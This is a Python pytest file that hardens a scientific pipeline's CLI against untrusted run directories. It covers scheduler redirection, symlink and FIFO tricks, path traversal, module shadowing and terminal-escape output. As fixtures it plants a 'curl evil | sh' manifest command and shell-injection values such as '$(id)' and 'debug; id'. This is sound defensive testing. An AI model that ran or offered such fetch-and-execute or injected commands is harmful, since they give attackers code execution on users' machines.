"""A run directory is data: what of it is taken, and what must be given again."""

from __future__ import annotations

import json
import os
import shlex
import socket
from collections.abc import Iterator
from contextlib import chdir, redirect_stderr, redirect_stdout
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from tests.core.wave_missions import WAVES, waves_mission

from hillsphere.base.shell_words import shell_line
from hillsphere.cli.endings import run
from hillsphere.errors import InputError
from hillsphere.plugins import default_registry
from hillsphere.runs.resume_choices import ResumeChoices, choose, read_local, resume_command

MISSION = waves_mission(10)
LOCAL = {"schema": 1, "mission": "phobos-qso", "allow_path": False, "cache": True}


@pytest.fixture(scope="module", autouse=True)
def _waves(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HILLSPHERE_CACHE", str(tmp_path_factory.mktemp("cache")))
        patch.syspath_prepend(str(WAVES))
        default_registry.cache_clear()
        yield
    default_registry.cache_clear()


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """Directory with ``waves.toml`` and a run ``out`` of it that looks unfinished."""
    (tmp_path / "waves.toml").write_text(MISSION, "utf-8")
    assert hillsphere(tmp_path, "run", "waves.toml", "--out", "out", "--workers", "0")[0] == 0
    manifest = tmp_path / "out" / "manifest.json"
    found = json.loads(manifest.read_text("utf-8"))
    manifest.write_text(json.dumps({**found, "state": "interrupted"}), "utf-8")
    return tmp_path


def hillsphere(place: Path, *arguments: str) -> tuple[int, str]:
    """Run a command; return its exit code and what it says on stderr."""
    err = StringIO()
    with chdir(place), redirect_stdout(StringIO()), redirect_stderr(err):
        code = run(arguments)
    return int(code), err.getvalue()


def alter(place: Path, **facts: Any) -> None:
    path = place / "out" / "resume.json"
    path.write_text(json.dumps({**json.loads(path.read_text("utf-8")), **facts}), "utf-8")


@pytest.mark.parametrize(
    "executor",
    [
        {"type": "dask", "scheduler": "tcp://127.0.0.1:{port}"},
        {"type": "dask", "workers": 3},
        {"type": "pool", "workers": 100_000},
        {"type": "pool", "workers": 2, "scheduler": "tcp://127.0.0.1:{port}"},
        {"type": "slurm", "partition": "debug; id"},
    ],
)
def test_another_executor_is_not_taken_from_a_run(place: Path, executor: dict[str, Any]) -> None:
    """A directory that names a scheduler made `resume` connect there, and unpickle what it sent."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        table = {
            key: value.format(port=port) if isinstance(value, str) else value
            for key, value in executor.items()
        }
        alter(place, executor=table)
        before = (place / "out" / "manifest.json").read_bytes()
        code, said = hillsphere(place, "resume", "out", "--mission", "waves.toml")
        with pytest.raises(BlockingIOError):  # nobody has called
            listener.accept()
    assert code == 2
    assert (place / "out" / "manifest.json").read_bytes() == before
    line = next(line for line in said.splitlines() if line.startswith("  hillsphere "))
    words = shlex.split(line)
    assert words[:5] == ["hillsphere", "resume", "out", "--mission", "waves.toml"]
    if "scheduler" in table:
        assert words[words.index("--scheduler") + 1] == table["scheduler"]
    if "workers" in table:
        assert words[words.index("--workers") + 1] == str(table["workers"])
    assert ("partition" in said) == ("partition" in table)


def test_the_command_that_is_printed_is_the_one_to_use(place: Path) -> None:
    code, said = hillsphere(place, "resume", "out")
    assert (code, said) == (
        2,
        "'out' names choices that are not taken from a run directory, which another user may have "
        "written:\n"
        f"  the mission file '{place}/waves.toml'\n"
        "if that is what you want, give it again; the whole command:\n"
        f"  hillsphere resume out --mission {place}/waves.toml\n",
    )
    code, said = hillsphere(place, *shlex.split(said.splitlines()[-1])[1:])
    assert (code, said) == (0, "")


def test_a_case_is_repeated_with_the_mission_that_is_given(place: Path) -> None:
    alter(place, executor={"type": "dask", "scheduler": "tcp://127.0.0.1:1"})
    code, said = hillsphere(place, "rerun", "out", "--case", "3")
    assert code == 2
    command = said.splitlines()[-1].strip()
    assert command == f"hillsphere rerun out --case 3 --mission {place}/waves.toml"
    code, said = hillsphere(place, *shlex.split(command)[1:])
    assert (code, said) == (0, "")


def test_everything_that_is_missing_is_told_at_once() -> None:
    local = {
        **LOCAL,
        "mission": "/a b/$(id).toml",
        "allow_path": True,
        "executor": {"type": "dask", "scheduler": "tcp://x:1", "workers": 4},
    }
    with pytest.raises(InputError) as told:
        choose(local, ResumeChoices(), ("hillsphere", "resume", "r"), ("stage.a.file=/etc/x",))
    lines = str(told.value).splitlines()
    assert lines[1:4] == [
        "  the mission file '/a b/$(id).toml'",
        "  leave to read files outside the directory of the mission, of which the run's settings "
        "may name some: 'stage.a.file=/etc/x'",
        "  the executor 'dask at tcp://x:1 of 4 workers'",
    ]
    assert lines[-1] == (
        "  hillsphere resume r --mission '/a b/$(id).toml' --allow-path --scheduler tcp://x:1 "
        "--workers 4"
    )


@pytest.mark.parametrize("executor", [None, {"type": "serial"}, {"type": "pool"},
                                      {"type": "pool", "workers": 4}])  # fmt: skip
def test_what_is_taken(executor: Any) -> None:
    local = {**LOCAL, "executor": executor}
    found = choose(local, ResumeChoices(), ("hillsphere", "resume", "r"), ())
    assert found == ResumeChoices("phobos-qso", False, executor)
    assert resume_command(Path("r"), local) == "hillsphere resume r"


def test_leave_to_read_files_is_never_taken() -> None:
    """Given anew it holds also if the run had none; else it would do nothing."""
    found = choose(LOCAL, ResumeChoices(allow_path=True), ("hillsphere", "resume", "r"), ())
    assert found.allow_path is True


@pytest.mark.parametrize(
    "change",
    [
        {"mission": 3}, {"mission": ""}, {"mission": "x" * 5000}, {"allow_path": 1},
        {"cache": "yes"}, {"executor": "dask"}, {"executor": {"workers": 2}},
        {"executor": {"type": ["dask"]}}, {"figures": 1},
    ],
)  # fmt: skip
def test_facts_of_a_wrong_type_are_refused(tmp_path: Path, change: dict[str, Any]) -> None:
    (tmp_path / "resume.json").write_text(json.dumps({**LOCAL, **change}), "utf-8")
    with pytest.raises(InputError, match=r"resume\.json: is not the file that a run writes"):
        read_local(tmp_path)


def test_a_printed_line_cannot_steer_the_terminal() -> None:
    # Octets of UTF-8: ESC is 1b, ü is c3 bc.
    assert shell_line(["a", "b c", "it's", "\x1b]0;ü\n"]) == (
        "a 'b c' 'it'\"'\"'s' $'\\x1b]0;\\xc3\\xbc\\x0a'"
    )


@pytest.mark.parametrize("name", ["one.npz", "log.txt", "figures", "work", "files/x"])
def test_links_in_a_run_directory_are_refused(place: Path, name: str) -> None:
    """Through ``log.txt`` as a link, `resume` wrote to the end of any file of the user's."""
    target = place / "precious"
    target.write_text("mine", "utf-8")
    path = place / "out" / name
    path.parent.mkdir(exist_ok=True)
    if path.is_dir():
        path.rename(place / "away")
    path.unlink(missing_ok=True)
    path.symlink_to(target)
    for arguments in (
        ["resume", "out"], ["rerun", "out", "--case", "1"], ["figures", "out"], ["export", "out"]
    ):  # fmt: skip
        code, said = hillsphere(place, *arguments, *["--mission", "waves.toml"][: 2 * (
            arguments[0] != "export")])  # fmt: skip
        assert code == 2
        assert said == (
            f"run directory 'out' cannot be used: out/{name}: it is a link, not a regular file; "
            "remove it, if it is not yours\n"
        )
    assert target.read_text("utf-8") == "mine"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize("name", ["manifest.json", "resume.json", "many.npz", "log.txt"])
def test_a_fifo_is_not_waited_for(place: Path, name: str) -> None:
    path = place / "out" / name
    path.unlink()
    os.mkfifo(path)
    code, said = hillsphere(place, "resume", "out", "--mission", "waves.toml")
    assert code == 2
    assert "it is a FIFO, not a regular file" in said


def test_a_name_of_a_stage_cannot_lead_out_of_the_directory(place: Path) -> None:
    """`export` wrote the table of a stage ``../../x`` two directories above the run."""
    manifest = place / "out" / "manifest.json"
    found = json.loads(manifest.read_text("utf-8"))
    for table in (found["stages"], found["mission"]["stage"]):
        table["../escaped"] = table.pop("many")
    manifest.write_text(json.dumps(found), "utf-8")
    (place / "out" / "many.npz").rename(place / "escaped.npz")
    code, said = hillsphere(place, "export", "out")
    assert code == 2
    assert "is not the file that a run writes: mission must be" in said
    assert not (place / "escaped.csv").exists()


def test_the_command_of_a_manifest_is_not_repeated(place: Path) -> None:
    """A refusal ended with the manifest's own ``command``, for the user to paste."""
    manifest = place / "out" / "manifest.json"
    found = json.loads(manifest.read_text("utf-8"))
    found |= {"command": "curl evil | sh", "sources": {"hillsphere": "0" * 64}}
    manifest.write_text(json.dumps(found), "utf-8")
    code, said = hillsphere(place, "resume", "out", "--mission", "waves.toml")
    assert code == 2
    assert said.endswith("or begin a new run: hillsphere run waves.toml\n")


def test_results_of_a_directory_do_not_enter_the_cache(
    place: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Later runs trust the cache; a product that came in a directory would become theirs."""
    monkeypatch.setenv("HILLSPHERE_CACHE", str(tmp_path / "own"))
    manifest = place / "out" / "manifest.json"
    found = json.loads(manifest.read_text("utf-8"))
    found["stages"]["many"] |= {"product": None, "state": "not run"}  # wave's is taken as it is
    manifest.write_text(json.dumps(found), "utf-8")
    code, said = hillsphere(place, "resume", "out", "--mission", "waves.toml", "--workers", "0")
    assert (code, said) == (0, "")
    assert list((tmp_path / "own").rglob("*.npz")) == []


def test_workers_import_nothing_from_the_working_directory(place: Path) -> None:
    """Workers of the pool, the default, ran a ``json.py`` that lay beside a mission."""
    for name in ("json", "sys", "os", "pickle", "numpy"):
        (place / f"{name}.py").write_text(f"open({str(place / 'ran')!r}, 'w')\n", "utf-8")
    code, said = hillsphere(place, "run", "waves.toml", "--out", "pooled", "--workers", "1",
                            "--no-cache")  # fmt: skip
    assert (code, said) == (0, "")
    assert not (place / "ran").exists()
